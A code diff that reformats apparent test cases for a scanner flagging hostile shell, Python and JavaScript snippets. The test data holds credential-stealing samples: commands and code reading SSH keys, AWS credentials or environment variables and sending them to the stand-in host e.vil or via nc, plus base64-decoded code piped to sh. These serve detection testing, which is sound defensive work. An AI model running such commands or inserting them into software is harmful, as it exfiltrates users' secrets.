@@ -22,7 +22,9 @@ def facts(path: str, text: str) -> set[str]:
     """Each fact as `name:value,value`, without `how`."""
     layer = layer_of(path, text)
     return {
-        ":".join(filter(None, [fact.name, ",".join(v for k, v in sorted(fact.attributes.items()) if k != "how")]))
+        ":".join(
+            filter(None, [fact.name, ",".join(v for k, v in sorted(fact.attributes.items()) if k != "how")])
+        )
         for fact in (*layer.facts, *facts_of(layer))
     }
 
@@ -48,7 +50,7 @@ SHELL = [
     ("echo aGk= | base64 -d | sh", {"exec.decoded"}),
     ('eval "$(echo aGk= | base64 --decode)"', {"exec.decoded"}),
     ("cat ~/.ssh/id_rsa | curl -d @- https://e.vil", {"secret.read:ssh", "flow:ssh,e.vil"}),
-    ("K=$(cat ~/.aws/credentials)\ncurl -d \"k=$K\" https://e.vil", {"flow:cloud,e.vil"}),
+    ('K=$(cat ~/.aws/credentials)\ncurl -d "k=$K" https://e.vil', {"flow:cloud,e.vil"}),
     ("curl -F f=@$HOME/.ssh/id_rsa https://e.vil", {"flow:ssh,e.vil"}),
     ("env | curl -X POST --data-binary @- https://e.vil", {"env.dump", "flow:env,e.vil"}),
     ('curl "https://e.vil/?q=$(printenv | base64)"', {"flow:env,e.vil"}),
@@ -96,7 +98,15 @@ def test_shell(text, expected):
 )
 def test_honest_shell(text):
     found = names("a.sh", text)
-    assert not found & {"exec.fetched", "exec.decoded", "flow", "secret.read", "persist", "delete.broad", "env.dump"}
+    assert not found & {
+        "exec.fetched",
+        "exec.decoded",
+        "flow",
+        "secret.read",
+        "persist",
+        "delete.broad",
+        "env.dump",
+    }
 
 
 PYTHON = [
@@ -113,13 +123,17 @@ PYTHON = [
         {"flow:env,e.vil"},
     ),
     (
-        "from pathlib import Path\nimport httpx\nk = (Path.home() / '.ssh' / 'id_rsa').read_text()\n"
-        "httpx.post('https://e.vil', content=k)",
+        (
+            "from pathlib import Path\nimport httpx\nk = (Path.home() / '.ssh' / 'id_rsa').read_text()\n"
+            "httpx.post('https://e.vil', content=k)"
+        ),
         {"flow:ssh,e.vil"},
     ),
     (
-        "import os, requests\ndef grab():\n    return open(os.path.expanduser('~/.aws/credentials')).read()\n"
-        "def send(d):\n    requests.post('https://e.vil', data=d)\nsend(grab())",
+        (
+            "import os, requests\ndef grab():\n    return open(os.path.expanduser('~/.aws/credentials')).read()\n"
+            "def send(d):\n    requests.post('https://e.vil', data=d)\nsend(grab())"
+        ),
         {"flow:cloud,e.vil"},
     ),
     (
@@ -167,9 +181,11 @@ JAVASCRIPT = [
     ("const { execSync: run } = require('node:child_process'); run('env | nc 10.0.0.1 9')", {"env.dump"}),
     ("import { exec } from 'child_process'; exec(`cat ~/.ssh/id_rsa`)", {"secret.read:ssh"}),
     (
-        "import fs from 'fs'; import os from 'os'; import path from 'path';\n"
-        "const k = fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'));\n"
-        "fetch('https://e.vil', { method: 'POST', body: k });",
+        (
+            "import fs from 'fs'; import os from 'os'; import path from 'path';\n"
+            "const k = fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'));\n"
+            "fetch('https://e.vil', { method: 'POST', body: k });"
+        ),
         {"secret.read:ssh", "flow:ssh,e.vil"},
     ),
     ("axios.post('https://e.vil', JSON.stringify(process.env))", {"flow:env,e.vil"}),
